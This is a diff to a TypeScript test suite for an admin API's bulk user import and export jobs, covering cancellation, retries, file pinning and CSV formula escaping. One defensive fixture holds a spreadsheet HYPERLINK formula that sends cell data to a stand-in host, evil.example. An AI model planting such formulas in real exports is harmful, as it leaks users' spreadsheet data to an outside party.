@@ -1,3 +1,5 @@
+import { parse } from 'csv-parse/sync';
+import { setTimeout as sleep } from 'node:timers/promises';
 import { localJobs } from '../../infra/local/jobs';
 import { JOB_BATCH_ROWS, JOB_LIMITS } from '../../shared/rules';
 import { expectProblem, TestApi, type Tenant } from '../support/runtime';
@@ -19,6 +21,7 @@ type Job = {
   state: string;
   batches: { total: number; done: number };
   counts: { rows: number; created: number; updated: number; unchanged: number; failed: number };
+  finishedAt?: string;
   error?: string;
 };
 type Line = { line: number; id?: string; status: string; errors?: { detail: string; pointer?: string }[] };
@@ -156,6 +159,111 @@ describe('R19 user import job', () => {
   });
 });
 
+describe('R19 cancel stops the work', () => {
+  it('a job cancelled after its first batch: no other batch is even invoked, the batch that ran is counted and reported, the rest named as cancelled', async () => {
+    const release = localJobs.hold({ after: 1 });
+    let jobId: string;
+    try {
+      const started = await runImport(acme, 'user-import', usersCsv(9000, 9000 + JOB_BATCH_ROWS * 2 + 10));
+      expect(started.body.batches.total).toBe(3);
+      jobId = started.body.jobId;
+      while ((await api.request<Job>('GET', `/v1/admin/jobs/${jobId}`, { key: acme.adminKey })).body.batches.done < 1) await sleep(20);
+      const cancelled = await api.request<Job>('POST', `/v1/admin/jobs/${jobId}/cancel`, { key: acme.adminKey });
+      expect(cancelled.body).toMatchObject({ state: 'cancelled', batches: { total: 3, done: 1 } });
+    } finally {
+      release();
+    }
+    const job = await finished(acme, jobId);
+    // The driver stopped scheduling, as StopExecution stops the Map: the two held batches never ran.
+    expect(localJobs.invocations(jobId)).toBe(1);
+    expect(job).toMatchObject({ state: 'cancelled', batches: { total: 3, done: 1 }, counts: { rows: JOB_BATCH_ROWS, created: JOB_BATCH_ROWS, failed: 0 } });
+    expect(job.finishedAt).toBeDefined();
+    const lines = await report(acme, jobId);
+    expect(lines).toHaveLength(JOB_BATCH_ROWS + 2);
+    expect(lines.filter((l) => l.status === 'created')).toHaveLength(JOB_BATCH_ROWS);
+    expect(lines.slice(JOB_BATCH_ROWS)).toEqual([
+      { line: 2 + JOB_BATCH_ROWS, status: 'error', errors: [{ detail: `The job was cancelled before this batch ran (the batch from line ${2 + JOB_BATCH_ROWS})` }] },
+      { line: 2 + JOB_BATCH_ROWS * 2, status: 'error', errors: [{ detail: `The job was cancelled before this batch ran (the batch from line ${2 + JOB_BATCH_ROWS * 2})` }] },
+    ]);
+    expect((await api.request('GET', '/v1/admin/users/bulk-9000', { key: acme.adminKey })).status).toBe(200);
+    expect((await api.request('GET', `/v1/admin/users/bulk-${9000 + JOB_BATCH_ROWS}`, { key: acme.adminKey })).status).toBe(404);
+  });
+});
+
+describe('R19 cancel lets a started batch finish', () => {
+  it('a batch that crashed before the cancel is retried after it, finishes and is counted; the batch that never started does not', async () => {
+    // The batch's first read of its users (BatchGetItem, after it started) fails through the SDK's three attempts: the batch throws and waits for its retry.
+    const release = localJobs.hold();
+    let jobId: string;
+    try {
+      const started = await runImport(acme, 'user-import', usersCsv(11000, 11000 + JOB_BATCH_ROWS + 5));
+      jobId = started.body.jobId;
+      await api.setFaults([{ operation: 'BatchGetItem', table: 'Tenants', kind: 'network', times: 3 }]);
+      // The first batch goes; the second, and the first's retry, wait.
+      while (localJobs.invocations(jobId) < 1) {
+        release(1);
+        await sleep(20);
+      }
+      while ((await api.faults()).injected < 3) await sleep(20);
+      expect((await api.request<Job>('POST', `/v1/admin/jobs/${jobId}/cancel`, { key: acme.adminKey })).body).toMatchObject({ state: 'cancelled', batches: { done: 0 } });
+    } finally {
+      release();
+      await api.clearFaults();
+    }
+    const job = await finished(acme, jobId);
+    expect(localJobs.invocations(jobId)).toBe(1);
+    expect(job).toMatchObject({ state: 'cancelled', batches: { total: 2, done: 1 }, counts: { rows: JOB_BATCH_ROWS, failed: 0 } });
+    expect(job.counts.created + job.counts.unchanged).toBe(JOB_BATCH_ROWS);
+    const lines = await report(acme, jobId);
+    expect(lines.filter((l) => l.status !== 'error')).toHaveLength(JOB_BATCH_ROWS);
+    expect(lines.filter((l) => l.status === 'error')).toEqual([expect.objectContaining({ line: 2 + JOB_BATCH_ROWS })]);
+    expect((await api.request('GET', `/v1/admin/users/bulk-${11000 + JOB_BATCH_ROWS - 1}`, { key: acme.adminKey })).status).toBe(200);
+    expect((await api.request('GET', `/v1/admin/users/bulk-${11000 + JOB_BATCH_ROWS}`, { key: acme.adminKey })).status).toBe(404);
+  });
+});
+
+describe('R19 the file is pinned at start', () => {
+  it('a file replaced through the still-valid upload URL after the start fails the job with a clear report; nothing of either file is imported', async () => {
+    const original = usersCsv(6000, 6010);
+    const replacement = usersCsv(7000, 7010);
+    expect(Buffer.byteLength(replacement)).toBe(Buffer.byteLength(original));
+    const release = localJobs.hold();
+    let jobId: string;
+    try {
+      const created = await create(acme, { kind: 'user-import', bytes: Buffer.byteLength(original) });
+      const target = created.body.upload as Upload;
+      expect((await upload(target, original)).status).toBe(200);
+      jobId = created.body.job.jobId;
+      expect((await api.request<Job>('POST', `/v1/admin/jobs/${jobId}/start`, { key: acme.adminKey })).status).toBe(202);
+      // The URL lasts 15 minutes: whoever holds it can PUT another file of the same size.
+      expect((await upload(target, replacement)).status).toBe(200);
+    } finally {
+      release();
+    }
+    const job = await finished(acme, jobId);
+    expect(job).toMatchObject({ state: 'failed', batches: { total: 1, done: 0 }, counts: { rows: 0 } });
+    expect(job.error).toContain('replaced after the job started');
+    expect((await api.request('GET', '/v1/admin/users/bulk-7000', { key: acme.adminKey })).status).toBe(404);
+    expect((await api.request('GET', '/v1/admin/users/bulk-6000', { key: acme.adminKey })).status).toBe(404);
+    const lines = await report(acme, jobId);
+    expect(lines).toEqual([expect.objectContaining({ line: 2, status: 'error' })]);
+    expect(lines[0]?.errors?.[0]?.detail).toContain('replaced after the job started');
+    expectProblem(await api.request('POST', `/v1/admin/jobs/${jobId}/start`, { key: acme.adminKey }), 409, 'conflict');
+  });
+
+  it('a job starts once: a second start, even at the same moment, is a 409 and runs nothing twice', async () => {
+    const file = usersCsv(8000, 8005);
+    const created = await create(acme, { kind: 'user-import', bytes: Buffer.byteLength(file) });
+    expect((await upload(created.body.upload as Upload, file)).status).toBe(200);
+    const jobId = created.body.job.jobId;
+    const starts = await Promise.all([1, 2].map(() => api.request<Job>('POST', `/v1/admin/jobs/${jobId}/start`, { key: acme.adminKey })));
+    expect(starts.map((r) => r.status).sort()).toEqual([202, 409]);
+    const job = await finished(acme, jobId);
+    expect(job).toMatchObject({ state: 'succeeded', batches: { total: 1, done: 1 }, counts: { rows: 5, created: 5 } });
+    expectProblem(await api.request('POST', `/v1/admin/jobs/${jobId}/start`, { key: acme.adminKey }), 409, 'conflict');
+  });
+});
+
 describe('R19/R29 limits and bad files', () => {
   it('a file over the byte limit is refused when the job is created (413) and changes nothing', async () => {
     const reply = await create(acme, { kind: 'user-import', bytes: JOB_LIMITS['user-import'].maxBytes + 1 });
@@ -233,12 +341,36 @@ describe('R19 users export and R22 token import jobs', () => {
     const [header, ...rows] = csv.trimEnd().split('\n');
     expect(header).toBe('userId,firstName,lastName,email,phone,backupPhones,officePhone,mfaEnabled,licensed,defaultMethod');
     expect(rows).toHaveLength(12);
-    expect(rows).toContain('bulk-5003,Bulk 5003,,,+14155556003,,,true,false,');
+    // A phone number starts with +: a spreadsheet would read it as a formula, so it is defused.
+    expect(rows).toContain(`bulk-5003,Bulk 5003,,,"'+14155556003",,,true,false,`);
     const back = await finished(tenant, (await runImport(tenant, 'user-import', csv)).body.jobId);
     expect(back.counts).toMatchObject({ rows: 12, unchanged: 12, created: 0, updated: 0, failed: 0 });
     // Another tenant's export holds none of these users.
     const theirs = await finished(other, (await create(other, { kind: 'user-export' })).body.job.jobId);
     expect(await download(other, theirs.jobId)).not.toContain('bulk-5003');
+  });
+
+  it('defuses every cell a spreadsheet would run as a formula, and importing the export back gives the original values', async () => {
+    const tenant = await api.createTenant('Formulas');
+    const names: Record<string, { firstName: string; lastName: string }> = {
+      '@evil': { firstName: '=HYPERLINK("http://evil.example/?"&A1,"Open")', lastName: '+1' },
+      '-2': { firstName: '-2+3', lastName: '@SUM(A1:A9)' },
+      quoted: { firstName: "'=already quoted", lastName: "O'Neill" },
+    };
+    for (const [userId, body] of Object.entries(names)) {
+      expect((await api.request('PUT', `/v1/admin/users/${encodeURIComponent(userId)}`, { key: tenant.adminKey, body: { ...body, mfaEnabled: true, phones: { primary: '+14155550123' } } })).status).toBe(201);
+    }
+    const exported = await finished(tenant, (await create(tenant, { kind: 'user-export' })).body.job.jobId);
+    const csv = await download(tenant, exported.jobId);
+    const cells = (parse(csv, { from_line: 2 }) as string[][]).flat();
+    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
+    expect(csv).toContain(`"'@evil","'=HYPERLINK(""http://evil.example/?""&A1,""Open"")","'+1"`);
+    expect(csv).toContain(`"''=already quoted",O'Neill`);
+    const back = await finished(tenant, (await runImport(tenant, 'user-import', csv)).body.jobId);
+    expect(back.counts).toMatchObject({ rows: 3, unchanged: 3, created: 0, updated: 0, failed: 0 });
+    for (const [userId, body] of Object.entries(names)) {
+      expect((await api.request('GET', `/v1/admin/users/${encodeURIComponent(userId)}`, { key: tenant.adminKey })).body).toMatchObject({ ...body, phones: { primary: { e164: '+14155550123' } } });
+    }
   });
 
   it('imports tokens with one sealing per batch; a re-run finds every serial stored and writes nothing', async () => {
